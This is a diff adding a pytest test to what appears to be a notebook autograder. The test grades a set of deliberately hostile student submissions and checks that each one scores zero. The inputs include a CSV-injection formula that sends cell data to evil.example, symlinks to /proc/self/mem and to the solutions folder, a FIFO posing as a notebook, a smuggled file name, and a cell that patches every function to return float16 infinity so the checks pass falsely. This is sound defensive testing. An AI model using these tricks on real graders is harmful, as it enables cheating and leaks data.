@@ -244,3 +244,107 @@ def test_every_csv_the_gradebook_writes_is_escaped_and_reads_back(tmp_path):
         assert "-1.5" in cells or name in ("gradebook_canvas.csv", "gradebook_wide.csv"), (name, cells)
     again = gb.Gradebook(tmp_path, resume=True)  # --resume reads the escaped file back as it was
     assert [(r.student, r.points, r.message) for r in again.rows] == [(r.student, r.points, r.message) for r in rows]
+
+
+# -- one class holding every attack, graded with the real command ---------------------------------
+import subprocess  # noqa: E402
+import sys  # noqa: E402
+
+import nbformat  # noqa: E402
+
+from grading import sandbox  # noqa: E402
+from grading.layout import ROOT  # noqa: E402
+
+FORMULA = '=HYPERLINK("evil.example?"&A1,"open me")'
+VICTIM_FILE = "HW1_victim_attempt_2026-12-01-10-00-00_01_kv_memory.ipynb"
+MALLORY_FILE = f"HW1_mallory_attempt_2026-12-01-11-00-00_{SMUGGLED}"
+# Every function of the notebook answers with half-precision infinity, which NumPy 2 finds
+# equal to every int from 65520 up: each byte count of Chapter 1.
+INF_CELL = """
+import types as _types
+import numpy as _np
+for _name, _value in list(globals().items()):
+    if isinstance(_value, _types.FunctionType) and _value.__module__ == __name__ and not _name.startswith('_'):
+        globals()[_name] = lambda *a, **k: _np.float16('inf')
+"""
+HIDDEN = '''import pytest
+
+from grading.compare import assert_equal
+
+
+@pytest.mark.ex1_1
+def test_bytes_per_token_held_out(nb):
+    assert_equal(nb.kv_bytes_per_token(32, 8, 128, "fp16"), 131072, "kv_bytes_per_token(32, 8, 128)")
+'''
+
+
+def build_hostile_class(base: Path) -> dict:
+    subs = base / "submissions"
+    subs.mkdir(parents=True)
+    shutil.copyfile(SOLVED, subs / VICTIM_FILE)  # Blackboard's download, as it comes
+    shutil.copyfile(UNSOLVED, subs / MALLORY_FILE)
+    linker = subs / "linker"  # a folder of links and a FIFO, one named as the chapter's notebook
+    linker.mkdir()
+    (linker / f"{STEM}.ipynb").symlink_to("/proc/self/mem")
+    (linker / "notes").symlink_to("/proc/self/mem")
+    (linker / "work").mkdir()
+    os.mkfifo(linker / "work" / "pipe.ipynb")
+    (linker / "answers").symlink_to(SOLUTIONS)
+    (subs / FORMULA).mkdir()
+    shutil.copyfile(UNSOLVED, subs / FORMULA / f"{STEM}.ipynb")
+    nb = nbformat.read(UNSOLVED, as_version=4)
+    cell = nbformat.v4.new_code_cell(INF_CELL)
+    cell.pop("id", None)  # the exercise notebooks are nbformat 4.4, whose cells have no id
+    nb.cells.append(cell)
+    (subs / "half_inf").mkdir()
+    nbformat.write(nb, subs / "half_inf" / f"{STEM}.ipynb")
+    (base / "hidden").mkdir()
+    (base / "hidden" / "test_01_held_out.py").write_text(HIDDEN)
+    roster = base / "roster.csv"
+    roster.write_text("id,name,folder\n333,\"Victim, Vera\",victim\n111,\"Mallory, Max\",mallory\n")
+    return {"subs": subs, "out": base / "grades", "hidden": base / "hidden", "roster": roster}
+
+
+@pytest.fixture(scope="module")
+def hostile_class(tmp_path_factory):
+    if not sandbox.status().sandboxed:
+        pytest.skip(f"needs the grading sandbox here: {sandbox.status().line}")
+    made = build_hostile_class(tmp_path_factory.mktemp("hostile_files"))
+    proc = subprocess.run([sys.executable, "-m", "grading.batch", str(made["subs"]), "--out", str(made["out"]),
+                           "--chapters", "1", "--workers", "2", "--timeout", "120", "--memory-mb", "3000",
+                           "--extra-tests", str(made["hidden"]), "--roster", str(made["roster"]), "--quiet"],
+                          cwd=ROOT, capture_output=True, text=True, timeout=1400,
+                          # This checkout's grading package in the children too, whatever the venv installed.
+                          env={**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT),
+                                                                                          os.environ.get("PYTHONPATH")]))})
+    read = lambda name: list(csv.reader((made["out"] / name).open(newline="", encoding="utf-8")))
+    return {**made, "proc": proc, "csv": {n: read(n) for n in ("gradebook.csv", "gradebook_wide.csv",
+                                                                "gradebook_canvas.csv")}}
+
+
+def _points(graded: dict, student: str) -> tuple[float, float, list]:
+    header, *rows = graded["csv"]["gradebook.csv"]
+    mine = [dict(zip(header, r)) for r in rows if gb.csv_value(r[0]) == student and r[2]]
+    assert mine, f"{student} has no graded row"
+    return (sum(float(r["points"]) for r in mine), sum(float(r["max_points"]) for r in mine),
+            [(r["exercise"], r["status"], r["message"][:200]) for r in mine])
+
+
+@pytest.mark.timeout(1500)
+def test_a_class_of_hostile_files_is_graded_whole(hostile_class):
+    proc, out = hostile_class["proc"], hostile_class["out"]
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    victim = _points(hostile_class, "victim")
+    assert victim[0] == victim[1] > 0 and any("hidden" in r[0] for r in victim[2]), victim  # hidden test too
+    for attacker in ("mallory", "linker", FORMULA, "half_inf"):
+        assert _points(hostile_class, attacker)[0] == 0, (attacker, _points(hostile_class, attacker))
+    review = (out / "needs_review.md").read_text()
+    assert "**mallory**" in review and "reads as more than one LMS name" in review, review
+    assert "**linker**" in review and "is a link" in review and "not a regular file" in review, review
+    assert "numpy.float16" in (out / "feedback" / "half_inf.md").read_text()
+    for name, rows in hostile_class["csv"].items():
+        assert not [c for r in rows for c in r if c.startswith(("=", "@"))], name
+    students = {gb.csv_value(r[0]) for r in hostile_class["csv"]["gradebook_wide.csv"][1:]}
+    assert {"victim", "mallory", "linker", FORMULA, "half_inf"} <= students, students
+    canvas_ids = [r[1] for r in hostile_class["csv"]["gradebook_canvas.csv"][2:]]
+    assert sorted(canvas_ids) == ["111", "333"], canvas_ids
